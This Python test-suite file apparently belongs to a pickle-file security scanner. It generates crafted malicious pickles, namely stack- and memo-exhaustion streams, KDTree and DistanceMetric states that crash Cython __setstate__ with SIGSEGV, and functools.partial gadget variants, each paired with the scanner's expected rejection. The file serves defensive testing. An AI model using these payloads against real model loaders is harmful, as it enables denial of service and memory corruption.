@dataclass(frozen=True)
class Bounded:
    """A stream the default limits let through (it is harmless to the loader) but whose cost
    the scanner must bound: refused under ``limits`` (ScanLimits overrides), in a few seconds,
    by the limit that ``expect`` (a regex on one of the report's problems) names."""

    build: Builder
    limits: dict[str, int]
    summary: str
    expect: str


def _deep_tuples(marker: Path) -> bytes:
    del marker
    return wrap(MARK * 200_000 + TUPLE * 200_000, 4)


def _deep_lists(marker: Path) -> bytes:
    del marker
    return wrap(EMPTY_LIST * 200_000 + APPEND * 199_999, 4)


def _many_opcodes(marker: Path) -> bytes:
    del marker
    return wrap((EMPTY_TUPLE + POP) * 5_000_000 + NONE, 4)


def _list_dag(marker: Path) -> bytes:
    del marker
    body = EMPTY_LIST + long_binput(0) + POP
    for i in range(1, 101):
        body += EMPTY_LIST + MARK + long_binget(i - 1) + long_binget(i - 1) + APPENDS
        body += long_binput(i) + POP
    return wrap(body + long_binget(100), 4)


BOUNDED: dict[str, Bounded] = {
    "deep_nested_tuples": Bounded(
        _deep_tuples,
        {"max_stack_depth": 10_000},
        "200,000 nested tuples (MARK x N, TUPLE x N): iterative unpickler, no recursion",
        r"the pickle stack grows past 10000 items \(ScanLimits\.max_stack_depth\)",
    ),
    "deep_nested_lists": Bounded(
        _deep_lists,
        {"max_stack_depth": 10_000},
        "200,000 nested lists (EMPTY_LIST x N, APPEND x N-1)",
        r"the pickle stack grows past 10000 items \(ScanLimits\.max_stack_depth\)",
    ),
    "ten_million_opcodes": Bounded(
        _many_opcodes,
        {"max_opcodes": 1_000_000},
        "10,000,001 cheap opcodes (EMPTY_TUPLE POP x 5M, NONE) in 10 MB",
        r"more than 1000000 opcodes \(ScanLimits\.max_opcodes\)",
    ),
    "memo_list_dag": Bounded(
        _list_dag,
        {"max_memo": 50},
        "l[i] = [l[i-1], l[i-1]], 100 levels: 2**100 items on traversal, O(n) to unpickle",
        r"the memo grows past 50 entries",
    ),
}


def _with_state(target: object, state: object) -> bytes:
    """``target`` pickled by joblib's pickler with ``state`` in place of its own BUILD state."""
    from joblib.numpy_pickle import NumpyPickler

    def override(self: object, obj: object) -> Any:
        if obj is target:
            func, args = obj.__reduce__()[:2]  # type: ignore[misc]
            return (func, args, state)
        return NotImplemented

    handle = io.BytesIO()
    type("Crafting", (NumpyPickler,), {"reducer_override": override})(handle, protocol=4).dump(
        target
    )
    return handle.getvalue()


@attack(
    "memory",
    "never",
    isolate=True,
    expect=r"restores a sklearn\.neighbors\._kd_tree\.KDTree whose state is not a tuple of 13",
    second_wall_expect=r"KDTree whose state is a tuple of 3, not a tuple of 13",
)
def kdtree_short_build_state(marker: Path) -> bytes:
    """A KDTree whose BUILD state is a 3-tuple: its Cython __setstate__ reads state[12]: SIGSEGV."""
    del marker
    from sklearn.neighbors import KDTree

    tree = KDTree(np.arange(12.0).reshape(6, 2))
    return _with_state(tree, tree.__getstate__()[:3])


@attack(
    "memory",
    "never",
    isolate=True,
    expect=r"restores a sklearn\.metrics\._dist_metrics\.EuclideanDistance64 whose state is "
    r"not a tuple of 3",
    second_wall_expect=r"EuclideanDistance64 whose state is a tuple of 1, not a tuple of 3",
)
def distance_metric_short_build_state(marker: Path) -> bytes:
    """A distance metric whose BUILD state is (p,): its Cython __setstate__ reads state[2]."""
    del marker
    from sklearn.metrics import DistanceMetric

    metric = DistanceMetric.get_metric("euclidean")
    return _with_state(metric, (2.0,))


# === functools.partial: callable only as partial(check_array), BUILD in its one form ==========

_PARTIAL_CALL = (
    r"calls functools\.partial with other than \(sklearn\.utils\.validation\.check_array,\)"
)
_PARTIAL_STATE = r"BUILD restores a functools\.partial whose "


def _check_array(protocol: int = 2) -> bytes:
    return g("sklearn.utils.validation", "check_array", protocol)


def _seed_sequence(protocol: int = 2) -> bytes:
    return g("numpy.random.bit_generator", "SeedSequence", protocol)


def _partial_with_state(state: bytes) -> bytes:
    """partial(check_array), then BUILD with ``state`` (pickle's own two steps), then called."""
    made = call(g("functools", "partial", 2), _check_array())
    return wrap(made + state + BUILD, 2)


def _kwds(*pairs: tuple[str, bytes]) -> bytes:
    return dct(*((s(k, 2), v) for k, v in pairs))


_GOOD_KWDS = _kwds(("dtype", lst(g("numpy", "float64", 2))), ("ensure_all_finite", NEWFALSE))


@attack("gadget", "never", expect=_PARTIAL_CALL)
def partial_binds_another_trusted_callable(marker: Path) -> bytes:
    """partial(SeedSequence)(): a trusted reference bound, then called by REDUCE."""
    del marker
    part = call(g("functools", "partial", 2), _seed_sequence())
    return wrap(part + EMPTY_TUPLE + REDUCE, 2)


@attack("gadget", "never", expect=_PARTIAL_CALL)
def partial_with_extra_positional_argument(marker: Path) -> bytes:
    """partial(check_array, <data>): a bound positional argument check_array would get."""
    del marker
    return wrap(call(g("functools", "partial", 2), _check_array(), lit(1, 2)), 2)


@attack("opcode", "never", expect=r"calls functools\.partial with keyword arguments")
def partial_with_keywords_at_creation(marker: Path) -> bytes:
    """NEWOBJ_EX partial(check_array, dtype='object'): keywords given at creation."""
    del marker
    part = g("functools", "partial", 4) + tup(_check_array(4))
    return wrap(part + _kwds(("dtype", s("object", 4))) + NEWOBJ_EX, 4)


@attack("gadget", "never", expect=_PARTIAL_STATE + "function is not")
def partial_build_swaps_the_function(marker: Path) -> bytes:
    """partial(check_array), then BUILD (SeedSequence, (), {}, None): the bound callable swapped."""
    del marker
    return _partial_with_state(tup(_seed_sequence(), EMPTY_TUPLE, NONE, NONE))


@attack("gadget", "never", expect=_PARTIAL_STATE + "positional arguments are not")
def partial_build_adds_positional_arguments(marker: Path) -> bytes:
    """BUILD (check_array, (1,), {...}, None): positional arguments bound through the state."""
    del marker
    return _partial_with_state(tup(_check_array(), tup(lit(1, 2)), _GOOD_KWDS, NONE))


@attack("gadget", "never", expect=_PARTIAL_STATE + "keyword 'dtype' is not plain data")
def partial_build_binds_a_callable_keyword(marker: Path) -> bytes:
    """BUILD (check_array, (), {'dtype': SeedSequence}, None): a callable as a keyword value."""
    del marker
    return _partial_with_state(
        tup(_check_array(), EMPTY_TUPLE, _kwds(("dtype", _seed_sequence())), NONE)
    )


@attack("gadget", "never", expect=_PARTIAL_STATE + "keyword 'dtype' is not plain data")
def partial_build_binds_an_object_keyword(marker: Path) -> bytes:
    """BUILD (check_array, (), {'dtype': OrderedDict()}, None): an object as a keyword value."""
    del marker
    made = call(g("collections", "OrderedDict", 2))
    return _partial_with_state(tup(_check_array(), EMPTY_TUPLE, _kwds(("dtype", made)), NONE))


@attack("gadget", "never", expect=_PARTIAL_STATE + "keywords name something")
def partial_build_foreign_keyword(marker: Path) -> bytes:
    """BUILD (check_array, (), {'estimator': 1, 'x': 1}, None): a keyword check_array lacks."""
    del marker
    return _partial_with_state(tup(_check_array(), EMPTY_TUPLE, _kwds(("x", lit(1, 2))), NONE))


@attack("opcode", "never", expect=_PARTIAL_STATE + "state is not a tuple of 4")
def partial_build_short_state(marker: Path) -> bytes:
    """BUILD (check_array, (), {...}): three parts where partial writes four."""
    del marker
    return _partial_with_state(tup(_check_array(), EMPTY_TUPLE, _GOOD_KWDS))


@attack("opcode", "never", expect=_PARTIAL_STATE + "__dict__ is neither None nor empty")
def partial_build_sets_attributes(marker: Path) -> bytes:
    """BUILD (check_array, (), {...}, {'func': ...}): the partial's __dict__ filled in."""
    del marker
    extra = _kwds(("func", _seed_sequence()))
    return _partial_with_state(tup(_check_array(), EMPTY_TUPLE, _GOOD_KWDS, extra))


@attack(
    "opcode",
    "never",
    expect=r"BUILD restores one object a second time",
    second_wall_expect=r"BUILD runs twice on one functools\.partial",
)
def partial_second_build(marker: Path) -> bytes:
    """Two BUILDs on one partial, each in the right form: the pickler writes one."""
    del marker
    state = tup(_check_array(), EMPTY_TUPLE, _GOOD_KWDS, NONE)
    made = call(g("functools", "partial", 2), _check_array())
    return wrap(made + state + BUILD + state + BUILD, 2)


CATEGORIES: tuple[str, ...] = tuple(dict.fromkeys(info.category for info in INFO.values()))
